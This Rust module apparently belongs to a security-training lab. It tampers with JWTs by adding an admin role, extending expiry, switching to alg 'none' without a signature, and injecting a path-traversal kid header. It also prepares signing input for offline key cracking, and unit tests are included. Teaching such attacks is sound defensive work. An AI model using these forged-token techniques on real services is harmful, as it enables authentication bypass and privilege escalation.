//! Token tampering, as an attacker without the key does it: decode the header and payload,
//! edit them, encode them again, and keep the old signature (or drop it for `alg: none`).
//! Pure rules, unit-tested; the server's answer is the lesson.

use base64::{engine::general_purpose::URL_SAFE_NO_PAD, Engine};
use serde_json::Value;

use super::present::decode_jwt;

/// The edits the page offers with one click (the text areas take any other).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Edit {
    /// `role: "admin"` in the payload.
    Admin,
    /// `exp` one day later.
    LaterExp,
    /// `alg: "none"` in the header, and no signature.
    AlgNone,
    /// A `kid` header that points at a file, hoping the server reads its key from there.
    Kid,
}

/// A token taken apart for editing: pretty JSON of its header and payload, and the
/// signature as it came.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Parts {
    pub header: String,
    pub payload: String,
    pub signature: String,
    /// The encoded parts as they came, with the text `split` made of them: a part whose
    /// text is unchanged is sent as it came, byte for byte (re-encoding would reorder its
    /// keys, and the signature covers the bytes).
    pub original: Option<Original>,
}

#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Original {
    pub header: (String, String),
    pub payload: (String, String),
}

/// Takes a token apart; `None` when it is not a JWT with JSON header and payload.
pub fn split(token: &str) -> Option<Parts> {
    let jwt = decode_jwt(token)?;
    let header = serde_json::to_string_pretty(&jwt.header).ok()?;
    let payload = serde_json::to_string_pretty(&jwt.payload).ok()?;
    Some(Parts {
        original: Some(Original {
            header: (header.clone(), jwt.header_b64),
            payload: (payload.clone(), jwt.payload_b64),
        }),
        header,
        payload,
        signature: jwt.signature_b64,
    })
}

/// Puts the parts together again, the JSON encoded exactly as written (compacted when it
/// parses, so that whitespace is not the change). No signature is made: nobody here has
/// the key.
pub fn assemble(parts: &Parts) -> String {
    let encode = |json: &str, original: Option<&(String, String)>| {
        if let Some((text, encoded)) = original {
            if text == json {
                return encoded.clone();
            }
        }
        let compact = serde_json::from_str::<Value>(json)
            .ok()
            .and_then(|v| serde_json::to_string(&v).ok())
            .unwrap_or_else(|| json.to_owned());
        URL_SAFE_NO_PAD.encode(compact)
    };
    let original = parts.original.as_ref();
    format!(
        "{}.{}.{}",
        encode(&parts.header, original.map(|o| &o.header)),
        encode(&parts.payload, original.map(|o| &o.payload)),
        parts.signature
    )
}

/// Applies one edit; the parts stay as they were if their JSON does not parse.
pub fn apply(parts: &Parts, edit: Edit) -> Parts {
    let mut next = parts.clone();
    let edit_json = |json: &str, change: &dyn Fn(&mut serde_json::Map<String, Value>)| {
        let mut value: Value = serde_json::from_str(json).ok()?;
        change(value.as_object_mut()?);
        serde_json::to_string_pretty(&value).ok()
    };
    match edit {
        Edit::Admin => {
            if let Some(json) = edit_json(&parts.payload, &|p| {
                p.insert("role".into(), Value::from("admin"));
            }) {
                next.payload = json;
            }
        }
        Edit::LaterExp => {
            if let Some(json) = edit_json(&parts.payload, &|p| {
                let exp = p.get("exp").and_then(Value::as_i64).unwrap_or(0);
                p.insert("exp".into(), Value::from(exp + 86_400));
            }) {
                next.payload = json;
            }
        }
        Edit::AlgNone => {
            if let Some(json) = edit_json(&parts.header, &|h| {
                h.insert("alg".into(), Value::from("none"));
            }) {
                next.header = json;
                next.signature = String::new();
            }
        }
        Edit::Kid => {
            if let Some(json) = edit_json(&parts.header, &|h| {
                h.insert("kid".into(), Value::from("../../../../dev/null"));
            }) {
                next.header = json;
            }
        }
    }
    next
}

/// What an HMAC signature of a JWT covers (`header.payload`) and the signature's bytes.
pub fn signing_parts(token: &str) -> Option<(&str, Vec<u8>)> {
    let (input, signature) = token.rsplit_once('.')?;
    if input.matches('.').count() != 1 {
        return None;
    }
    Some((input, URL_SAFE_NO_PAD.decode(signature).ok()?))
}

/// How an offline guess at the key went.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Crack {
    Found {
        word: String,
        tries: usize,
    },
    NotFound {
        tries: usize,
    },
    /// There was no token to try: none, not a JWT, or the request for one failed.
    Unavailable,
}

/// A token to take apart in tests: {"typ":"JWT","alg":"HS256"} .
/// {"sub":"bob","role":"user","exp":100} . "sig", the keys out of alphabetical order, as
/// jsonwebtoken writes them.
#[cfg(test)]
pub(crate) fn sample_token() -> String {
    let part = |json: &str| URL_SAFE_NO_PAD.encode(json);
    format!(
        "{}.{}.c2ln",
        part(r#"{"typ":"JWT","alg":"HS256"}"#),
        part(r#"{"sub":"bob","role":"user","exp":100}"#)
    )
}

#[cfg(test)]
mod tests {
    use super::{sample_token as token, *};

    #[test]
    fn an_untouched_token_comes_back_byte_for_byte() {
        let parts = split(&token()).unwrap();
        assert!(parts.payload.contains("\"role\": \"user\""));
        assert_eq!(parts.signature, "c2ln");
        assert_eq!(assemble(&parts), token());
    }

    #[test]
    fn each_edit_changes_only_its_part_and_keeps_the_old_signature() {
        let parts = split(&token()).unwrap();
        let admin = apply(&parts, Edit::Admin);
        assert!(admin.payload.contains("\"role\": \"admin\""));
        assert_eq!(
            (admin.header.as_str(), admin.signature.as_str()),
            (parts.header.as_str(), "c2ln")
        );
        assert!(apply(&parts, Edit::LaterExp)
            .payload
            .contains("\"exp\": 86500"));
        let none = apply(&parts, Edit::AlgNone);
        assert!(none.header.contains("\"alg\": \"none\""));
        assert!(assemble(&none).ends_with('.'), "alg none travels unsigned");
        assert!(apply(&parts, Edit::Kid)
            .header
            .contains("\"kid\": \"../../../../dev/null\""));
    }

    #[test]
    fn the_signing_input_is_header_dot_payload_and_the_signature_decodes() {
        let token = token();
        let (input, signature) = signing_parts(&token).unwrap();
        assert_eq!(input.matches('.').count(), 1);
        assert_eq!(signature, b"sig");
        assert_eq!(signing_parts("a.b"), None);
        assert_eq!(signing_parts("a.b.c.d"), None);
        assert_eq!(signing_parts("a.b.!!"), None);
    }

    #[test]
    fn broken_json_is_sent_as_written_and_edits_leave_it_alone() {
        let parts = Parts {
            header: "{not json".into(),
            payload: "{}".into(),
            signature: "s".into(),
            original: None,
        };
        assert_eq!(apply(&parts, Edit::AlgNone), parts);
        let token = assemble(&parts);
        assert!(token.starts_with(&URL_SAFE_NO_PAD.encode("{not json")));
        assert_eq!(split("not.a.jwt"), None);
    }
}
